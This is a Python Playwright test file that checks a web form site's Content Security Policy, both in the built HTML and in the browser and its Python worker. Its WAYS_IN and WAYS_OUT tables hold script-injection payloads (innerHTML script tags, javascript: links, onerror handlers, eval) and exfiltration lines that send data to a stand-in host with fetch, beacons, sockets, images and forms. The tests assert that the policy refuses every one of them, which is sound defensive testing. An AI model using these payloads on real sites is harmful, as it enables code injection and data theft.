"""The policy where it counts: in every built page, and in the browser, where somebody tries to get past it."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Request, Worker

from scripts.content.page import parse, walk
from tests.patience import SOON

from .bare import worker
from .conftest import Contexts, OpenForm
from .formpage import FormPage
from .pages import SITE

PAGES = sorted(path.relative_to(SITE).as_posix() for path in SITE.rglob("*.html"))
ELSEWHERE = "https://snok.example"

# The theme's: where the site begins, light or dark, and which tab the address asks for.
THEME_SCRIPTS = ("__md_scope=new URL(", "var palette=__md_get(", "var target=document.getElementById(")

REFUSED = r"Content Security Policy|violates|Refused to|requires 'Trusted"


class Reading:
    """A page as a parser sees it that knows nothing of forms/build/host/csp.py, with what its templates hold."""

    def __init__(self, html: str) -> None:
        elements = list(walk(parse(html), templates=True))
        self.tags = [
            (element.tag, {name: value or "" for name, value in element.attributes.items()}) for element in elements
        ]
        self.scripts = [
            element.text()
            for element, (tag, named) in zip(elements, self.tags, strict=True)
            if tag == "script" and "src" not in named and not named.get("type", "").startswith("application/")
        ]


def digest(script: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


@pytest.fixture(scope="module", params=PAGES)
def reading(request: pytest.FixtureRequest) -> Reading:
    """Each built page in turn."""
    return Reading(Path(SITE, request.param).read_text(encoding="utf-8"))


def test_page_has_one_policy_with_the_hashes_of_its_own_scripts(reading: Reading) -> None:
    """One policy, before all that it governs, allowing the page's inline scripts and none that it does not have."""
    policies = [named["content"] for tag, named in reading.tags if named.get("http-equiv") == "Content-Security-Policy"]
    assert len(policies) == 1
    names = [tag for tag, named in reading.tags if "http-equiv" not in named]
    before = [tag for tag, _ in reading.tags][: [named.get("content") for _, named in reading.tags].index(policies[0])]
    assert set(before) <= {"html", "head", "meta"}, names
    directives = {name: values for name, *values in (part.split() for part in policies[0].split("; "))}
    allowed = {value for value in directives["script-src"] if value.startswith("'sha256-")}

    assert allowed == {digest(script) for script in reading.scripts}
    assert set(directives["script-src"]) - allowed == {"'self'", "'wasm-unsafe-eval'"}
    assert directives["default-src"] == directives["base-uri"] == directives["form-action"] == ["'none'"]
    assert directives["connect-src"] == directives["style-src"] == ["'self'"]
    assert directives["require-trusted-types-for"] == ["'script'"]
    assert directives["trusted-types"] == ["default", "inert"]
    assert "unsafe-inline" not in policies[0]
    assert "'unsafe-eval'" not in policies[0]


def test_page_has_no_scripts_but_the_themes(reading: Reading) -> None:
    """A script that came in with a text would be allowed by its hash: so there is to be none."""
    assert [next((one for one in THEME_SCRIPTS if script.startswith(one)), script) for script in reading.scripts] == [
        *THEME_SCRIPTS
    ]


def test_page_holds_nothing_that_the_policy_would_refuse(reading: Reading) -> None:
    """No handlers or styles in attributes, no addresses that run, and nothing fetched from elsewhere."""
    for tag, named in reading.tags:
        assert tag not in {"style", "iframe", "object", "embed", "base"}, tag
        assert not [name for name in named if name.startswith("on") or name == "style"], (tag, named)
        for name in ("src", "href", "action", "data", "poster", "srcset"):
            assert not re.match(r"\s*(javascript|vbscript|data:text)", named.get(name, "")), (tag, named)
        fetched = named.get("src") or (named.get("href", "") if tag == "link" else "")
        if named.get("rel") not in ("canonical", "next", "prev"):
            assert not re.match(r"(https?:)?//", fetched), (tag, named)
        if tag == "form":
            assert named.get("action", "") == ""


WATCH = """
self.nvRefused = [];
self.addEventListener("securitypolicyviolation", (event) => nvRefused.push(event.effectiveDirective));
"""

# How somebody who got a foothold would run code. Each leaves nvRan behind if it runs.
TRUSTED = "require-trusted-types-for"
WAYS_IN = {
    "script in HTML": "document.body.innerHTML += '<script>nvRan = 1</script>'",
    "frame in HTML": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=x></iframe>')",
    "address that runs in HTML": """
        document.body.insertAdjacentHTML('beforeend', '<a id=nv href="javascript:nvRan = 1">');
        document.getElementById('nv').click()""",
    "worker elsewhere": f"new Worker('{ELSEWHERE}/a.js')",
    "worker as data": "new Worker('data:text/javascript,1')",
    "inline script": "const s = document.createElement('script'); s.textContent = 'nvRan = 1'; document.body.append(s)",
    "handler": """document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="nvRan = 1">')""",
    "address that runs": "const a = document.createElement('a'); a.href = 'javascript:nvRan = 1'; a.click()",
    "script as data": "const s = document.createElement('script'); s.src = 'data:,nvRan = 1'; document.body.append(s)",
    "script as blob": """const s = document.createElement('script');
        s.src = URL.createObjectURL(new Blob(['nvRan = 1'])); document.body.append(s)""",
    "script elsewhere": f"""const s = document.createElement('script'); s.src = '{ELSEWHERE}/a.js';
        document.body.append(s)""",
    "module elsewhere": f"import('{ELSEWHERE}/a.js').catch(() => 0)",
    "eval": "try { eval('nvRan = 1') } catch {}",
    "function from text": "try { new Function('nvRan = 1')() } catch {}",
    "timer with text": "try { setTimeout('nvRan = 1') } catch {}",
    "style": "const s = document.createElement('style'); s.textContent = 'a { color: red }'; document.body.append(s)",
    "style in an attribute": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
}

# How somebody would get words out of the page without leaving it.
WAYS_OUT = {
    "fetch": f"fetch('{ELSEWHERE}/?q=svar').catch(() => 0)",
    "fetch without waiting": f"fetch('{ELSEWHERE}/?q=svar', {{ mode: 'no-cors', keepalive: true }}).catch(() => 0)",
    "request": f"const r = new XMLHttpRequest(); r.open('POST', '{ELSEWHERE}/'); r.send('svar')",
    "beacon": f"navigator.sendBeacon('{ELSEWHERE}/', 'svar')",
    "socket": "try { new WebSocket('wss://snok.example/?q=svar') } catch {}",
    "event source": f"try {{ new EventSource('{ELSEWHERE}/?q=svar') }} catch {{}}",
    "picture": f"new Image().src = '{ELSEWHERE}/?q=svar'",
    "frame": f"const f = document.createElement('iframe'); f.src = '{ELSEWHERE}/?q=svar'; document.body.append(f)",
    "object": f"const o = document.createElement('object'); o.data = '{ELSEWHERE}/?q=svar'; document.body.append(o)",
    "sound": f"new Audio('{ELSEWHERE}/?q=svar').load()",
    "style sheet": f"""const l = document.createElement('link'); l.rel = 'stylesheet';
        l.href = '{ELSEWHERE}/?q=svar'; document.body.append(l)""",
    "font": f"new FontFace('x', 'url({ELSEWHERE}/?q=svar)').load().catch(() => 0)",
    "form": f"""const f = document.createElement('form'); f.action = '{ELSEWHERE}/'; f.method = 'post';
        document.body.append(f); f.submit()""",
}


def attempt(target: Page | Worker, script: str) -> list[Any]:
    """Run a script as one of the page's own would, and see what was refused and whether anything ran.

    It runs in a callback: what a test runs directly is above the policy. Whether it was refused is told by and by.
    """
    found: list[Any] = target.evaluate(
        """([script, patience]) => new Promise((done) => {
            self.nvRefused.length = 0;
            delete self.nvRan;
            const run = self.nvTry[script];
            const end = performance.now() + patience;
            const told = () => self.nvRefused.length > 0 || performance.now() > end;
            const give = () => done([self.nvRefused, self.nvRan ?? null]);
            const look = () => (told() ? setTimeout(give) : setTimeout(look, 5));
            setTimeout(() => {
                try { run(); } catch { /* what is refused may be told as an error too */ }
                look();
            });
        })""",
        [script, SOON],
    )
    return found


def prepare(target: Page | Worker, ways: dict[str, str]) -> None:
    """Lay out the scripts as functions, since the policy refuses to make them from text."""
    functions = ", ".join(f"{name!r}: () => {{ {script} }}" for name, script in ways.items())
    target.evaluate(f"() => {{ {WATCH} self.nvTry = {{ {functions} }}; }}")


def sent_elsewhere(page: Page) -> list[str]:
    """What leaves the page for another host from now on. A refused request is told of, but was never sent."""
    sent: list[str] = []

    def note(request: Request) -> None:
        here = (page.url.split("/del-1")[0], "blob:", "data:")
        if not request.url.startswith(here) and request.failure != "csp":
            sent.append(f"{request.url}: {request.failure}")

    page.on("requestfailed", note)
    page.on("requestfinished", note)
    return sent


@pytest.fixture
def open_page(contexts: Contexts) -> Page:
    """A page with a form, where the console may tell of what is refused."""
    context, guard = contexts()
    guard.allow(rf"console (error|warning): .*({REFUSED})|^failed: (blob:|data:).*csp")
    page = context.new_page()
    page.goto("del-1/samtykke/")
    return page


def test_nothing_that_gets_into_the_page_runs(open_page: Page) -> None:
    """Inline, by handler, by address, from text or from elsewhere: each is refused, and none runs."""
    prepare(open_page, WAYS_IN)

    for way in WAYS_IN:
        refused, ran = attempt(open_page, way)

        assert refused, way
        assert all(directive.startswith(("script-src", "style-src", TRUSTED)) for directive in refused), way
        assert ran is None, way


def test_nothing_gets_out_of_the_page(open_page: Page) -> None:
    """Each way of sending words elsewhere is refused before any request is made: the guard sees none."""
    sent = sent_elsewhere(open_page)
    prepare(open_page, WAYS_OUT)

    for way in WAYS_OUT:
        refused, _ = attempt(open_page, way)

        assert refused, way
    assert open_page.url.endswith("del-1/samtykke/")
    assert sent == []


def test_links_cannot_be_turned_elsewhere(open_page: Page) -> None:
    """A <base> put into the page changes no address."""
    here = open_page.evaluate("new URL('x', document.baseURI).href")
    base = f"Object.assign(document.createElement('base'), {{ href: '{ELSEWHERE}/' }})"
    open_page.evaluate(f"document.head.prepend({base})")

    assert open_page.evaluate("new URL('x', document.baseURI).href") == here


@pytest.fixture
def ready(open_form: OpenForm) -> FormPage:
    """A form whose worker runs Python."""
    form = open_form("samtykke").ready(offline=False)
    form.guard.allow(rf"console (error|warning): .*({REFUSED})")
    return form


IN_WORKER = {
    "eval": "try { eval('nvRan = 1') } catch {}",
    "function from text": "try { new Function('nvRan = 1')() } catch {}",
    "module elsewhere": f"import('{ELSEWHERE}/a.js').catch(() => 0)",
    "fetch": f"fetch('{ELSEWHERE}/?q=svar').catch(() => 0)",
    "request": f"const r = new XMLHttpRequest(); r.open('POST', '{ELSEWHERE}/'); r.send('svar')",
    "socket": "try { new WebSocket('wss://snok.example/?q=svar') } catch {}",
    "event source": f"try {{ new EventSource('{ELSEWHERE}/?q=svar') }} catch {{}}",
}


def test_the_same_holds_where_python_runs(ready: FormPage) -> None:
    """The worker has the page's policy: what Python is made to do can neither run text as code nor send anything."""
    sent = sent_elsewhere(ready.page)
    python = worker(ready.page)
    prepare(python, IN_WORKER)

    for way in IN_WORKER:
        refused, ran = attempt(python, way)

        assert refused, way
        assert set(refused) <= {"script-src", "script-src-elem", "connect-src", TRUSTED}, way
        assert ran is None, way
    assert sent == []


def test_the_policy_lets_the_site_itself_work(ready: FormPage) -> None:
    """A check that sees refusals where there are none would prove nothing: the site's own files come, Python checks."""
    python = worker(ready.page)

    assert ready.page.evaluate("fetch('../../tiltak.json').then((answer) => answer.status)") == 200
    fetch = "address => fetch(address).then((answer) => answer.status)"
    assert python.evaluate(fetch, f"{ready.guard.server.origin}/") == 200
    ready.check()
